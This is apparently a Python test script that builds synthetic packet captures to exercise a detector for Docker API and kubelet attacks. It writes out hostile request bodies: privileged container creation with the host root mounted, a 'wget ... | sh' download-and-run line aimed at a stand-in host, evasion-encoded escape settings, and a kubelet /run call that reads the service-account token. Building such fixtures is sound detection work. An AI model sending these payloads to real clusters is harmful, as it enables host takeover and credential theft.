#!/usr/bin/python3
"""make_kube_edge_pcaps.py - hand-built captures for container creation, escape and kubelet edge cases.

Run with /usr/bin/python3 (scapy): tests/capture/make_kube_edge_pcaps.py [OUTDIR]
(default <repo>/pcaps) writes OUTDIR/edge/{docker-create-*,kubelet-run-split}.pcap.
Deterministic. Client 198.18.0.10, server 198.18.0.2 (stub dockerd on 2375;
the kubelet case uses port 10255 on the same address). Answers are the stub
daemons' own bytes (stub_docker.route/render, stub_kube.kubelet) with a fixed
Date. Expected results are in pcaps/README.md.
"""
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
import make_edge_pcaps as me  # noqa: E402
import stub_docker as sd  # noqa: E402
import stub_kube as sk  # noqa: E402

GO_UA = "Go-http-client/1.1"


def post(path, body, ua=me.UA, chunks=None, extra=()):
    """A POST as the Go client writes it; chunks: body piece sizes -> chunked."""
    h = ["POST %s HTTP/1.1" % path, "Host: 198.18.0.2:2375", "User-Agent: " + ua]
    h += list(extra)
    h.append("Content-Type: application/json")
    if chunks is None:
        h.append("Content-Length: %d" % len(body))
        payload = body
    else:
        h.append("Transfer-Encoding: chunked")
        payload, i = b"", 0
        for n in chunks + [len(body)]:
            part = body[i:i + n]
            if part:
                payload += b"%x\r\n%s\r\n" % (len(part), part)
            i += len(part)
        payload += b"0\r\n\r\n"
    return ("\r\n".join(h) + "\r\n\r\n").encode() + payload


def answer(method, target, body):
    r = sd.route(method, target, {}, body=body)
    return b"".join(sd.render(r, method, False, sd.split_target(target)[1], {}, sd.FIXED_DATE))


def one(request, response, dport=2375, cuts=None):
    c = me.Conn(dport=dport).handshake()
    c.send(0, request, cuts=cuts)
    c.send(1, response)
    c.close()
    return me.LT_EN10MB, me.frames(c)


def case_create_chunked():
    body = json.dumps({"Image": "nginx:1.27-alpine", "Cmd": ["chroot", "/host", "sh"],
                       "HostConfig": {"Binds": ["/:/host"], "Privileged": True}},
                      separators=(",", ":")).encode()
    path = "/v1.50/containers/create?name=escape"
    # Chunks cut inside keys and values; TCP cut inside a chunk-size line too.
    reqb = post(path, body, chunks=[5, 17, 1, 30])
    return one(reqb, answer("POST", path, body), cuts=[130, 170, 171, 200])


def case_create_toplevel():
    # Old-engine style (honeypot "dockgeddon"): host settings at the top level.
    body = json.dumps({"Image": "alpine", "Cmd": ["/bin/sh", "-c", "wget -q -O - "
                                                  "http://198.18.0.99/d.sh | sh"],
                       "Binds": ["/:/mnt:rw"], "Privileged": True, "NetworkMode": "host"},
                      separators=(",", ":")).encode()
    path = "/v1.24/containers/create?name=dockgeddon"
    return one(post(path, body, ua=GO_UA), answer("POST", path, body))


def case_create_evasion():
    # Go's encoding/json matches keys case-insensitively and decodes escapes.
    body = (b'{"image":"nginx:1.27-alpine","hostconfig":{"binds":["/etc/:/x:ro"],'
            b'"Privil\\u0065ged":true,"capadd":["CAP_SYS_ADMIN"],'
            b'"SecurityOpt":["apparmor=unconfined"],"PidMode":"host",'
            b'"Devices":[{"PathOnHost":"/dev/sda","PathInContainer":"/dev/sda",'
            b'"CgroupPermissions":"rwm"}]}}')
    path = "/containers/create"
    return one(post(path, body, ua="curl/7.88.1"), answer("POST", path, body))


def case_create_bigbody():
    # 70 000 bytes of Env before the host settings: past the 64 KiB kept.
    env = ["PAD%04d=%s" % (i, "x" * 60) for i in range(1000)]
    body = json.dumps({"Image": "nginx:1.27-alpine", "Env": env,
                       "HostConfig": {"Privileged": True}}, separators=(",", ":")).encode()
    path = "/v1.50/containers/create"
    return one(post(path, body), answer("POST", path, body))


def case_kubelet_run_split():
    body = b"cmd=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"
    path = "/run/default/web-frontend-7d4b9c/nginx/"
    reqb = ("POST %s HTTP/1.1\r\nHost: 198.18.0.2:10255\r\nUser-Agent: curl/7.88.1\r\n"
            "Accept: */*\r\nContent-Length: %d\r\nContent-Type: application/x-www-form-urlencoded"
            "\r\n\r\n" % (path, len(body))).encode() + body
    code, out, ctype = sk.kubelet("POST", path, {}, {}, body, True)
    resp = ("HTTP/1.1 %d OK\r\nContent-Length: %d\r\nContent-Type: %s\r\nDate: %s\r\n\r\n"
            % (code, len(out), ctype, sd.FIXED_DATE)).encode() + out
    return one(reqb, resp, dport=10255, cuts=list(range(1, len(reqb))))


def case_docker_port8080():
    # A Docker daemon on 8080 (a kubeapi port): its answer's signature wins.
    return one(me.LIST_REQ, me.LIST_RESP, dport=8080)


CASES = {
    "docker-port8080": case_docker_port8080,
    "docker-create-chunked": case_create_chunked,
    "docker-create-toplevel": case_create_toplevel,
    "docker-create-evasion": case_create_evasion,
    "docker-create-bigbody": case_create_bigbody,
    "kubelet-run-split": case_kubelet_run_split,
}


def main():
    root = os.path.normpath(os.path.join(HERE, "..", ".."))
    outdir = sys.argv[1] if len(sys.argv) > 1 else os.path.join(root, "pcaps")
    edge = os.path.join(outdir, "edge")
    os.makedirs(edge, exist_ok=True)
    for name, fn in CASES.items():
        lt, fr = fn()
        p = me.write_pcap(os.path.join(edge, name + ".pcap"), lt, fr)
        print("%-40s %7d bytes" % (os.path.relpath(p, root), os.path.getsize(p)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
